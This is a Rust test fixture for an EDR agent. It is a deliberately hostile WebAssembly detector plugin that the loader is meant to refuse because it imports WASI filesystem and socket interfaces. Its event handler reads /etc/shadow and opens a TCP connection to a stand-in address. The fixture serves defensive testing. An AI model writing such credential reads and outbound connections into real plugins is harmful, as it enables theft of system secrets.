//! Hostile fixture: a detector that imports WASI filesystem and sockets and
//! uses them on every batch. The agent must refuse to load it, naming the
//! import (plugins may import nothing but edr:plugin).

wit_bindgen::generate!({ path: "wit", world: "hostile:wasi-import/plugin", generate_all });

use edr::plugin::types::EventKind;

struct Exfiltrator;

impl Guest for Exfiltrator {
    fn init(_config: Config) -> Result<PluginInfo, String> {
        Ok(PluginInfo { name: "hostile-wasi-import".into(), version: "0.0.0".into(), description: String::new(), subscriptions: vec![EventKind::ProcessExec] })
    }

    fn on_events(_text: String, _lists: Vec<u32>, _events: Vec<Event>) -> Vec<Finding> {
        let secrets = wasi::filesystem::types::read_file("/etc/shadow");
        let _ = wasi::sockets::tcp::connect("203.0.113.1", 443);
        std::hint::black_box(secrets.is_ok());
        Vec::new()
    }
}

export!(Exfiltrator);
